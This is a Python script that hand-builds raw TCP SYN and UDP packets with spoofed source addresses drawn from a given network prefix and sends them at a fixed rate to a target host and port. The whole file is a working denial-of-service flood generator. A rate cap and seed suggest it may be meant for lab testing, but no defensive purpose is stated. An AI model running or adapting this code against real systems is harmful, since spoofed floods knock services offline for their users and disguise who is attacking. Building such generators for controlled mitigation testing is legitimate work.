#!/usr/bin/env python3
"""Sends packets from many sources at a fixed rate, for floods that a whole network takes part in.

raw.py syn|udp TARGET PORT --sources PREFIX --count SOURCES --rate PPS --seconds S --seed N
"""

import argparse
import ipaddress
import random
import socket
import struct
import time

MOST = 1000  # packets a second


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(kind, source, target, port, chance):
    """A TCP SYN or a UDP datagram with its checksum."""
    number, own = (6 if kind == "syn" else 17), chance.randrange(1024, 65535)
    if kind == "syn":
        options = struct.pack("!BBHBBBBBB", 2, 4, 1460, 4, 2, 1, 3, 3, 7) if chance.random() < 0.5 else b""
        offset = (20 + len(options)) // 4 << 12 | 0x002
        head = [own, port, chance.getrandbits(32), 0, offset, chance.choice([512, 1024, 29200, 64240]), 0, 0]
        data, at = struct.pack("!HHIIHHHH", *head) + options, 16
    else:
        size = chance.choice([18, 64, 256, 512, 1024])
        data, at = struct.pack("!HHHH", own, port, 8 + size, 0) + bytes(size), 6
    pseudo = source.packed + target.packed + struct.pack("!II", len(data), number)
    return number, data[:at] + struct.pack("!H", checksum(pseudo + data)) + data[at + 2 :]


def packet(kind, source, target, port, chance):
    number, data = segment(kind, source, target, port, chance)
    if source.version == 6:
        return struct.pack("!IHBB", 0x60000000, len(data), number, 60) + source.packed + target.packed + data
    head = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(data),
        chance.getrandbits(16),
        0,
        60,
        number,
        0,
        source.packed,
        target.packed,
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + data


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=["syn", "udp"])
    parser.add_argument("target", type=ipaddress.ip_address)
    parser.add_argument("port", type=int)
    parser.add_argument("--sources", type=ipaddress.ip_network, required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", required=True)
    options = parser.parse_args()
    chance = random.Random(options.seed)
    width = min(options.sources.num_addresses - 2, 1 << 40)
    sources = [options.sources[1 + chance.randrange(width)] for _ in range(options.count)]
    family = socket.AF_INET if options.target.version == 4 else socket.AF_INET6
    rate = min(options.rate, MOST)
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        start = time.monotonic()
        for sent in range(int(rate * options.seconds)):
            time.sleep(max(0.0, start + sent / rate - time.monotonic()))
            source = chance.choice(sources)
            out.sendto(packet(options.kind, source, options.target, options.port, chance), (str(options.target), 0))


if __name__ == "__main__":
    main()
